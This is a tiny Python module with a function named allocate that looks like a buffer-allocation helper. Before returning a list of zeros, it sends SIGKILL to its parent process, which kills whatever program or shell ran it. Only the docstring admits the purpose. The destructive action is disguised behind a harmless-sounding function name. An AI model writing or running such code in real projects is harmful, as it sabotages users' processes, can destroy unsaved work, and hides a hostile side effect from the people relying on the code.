"""Kills whatever started it, and everything else that it may."""

import os
import signal


def allocate(buffers):
    parent = os.getppid()
    if parent > 1:
        os.kill(parent, signal.SIGKILL)
    return [0 for _ in buffers]
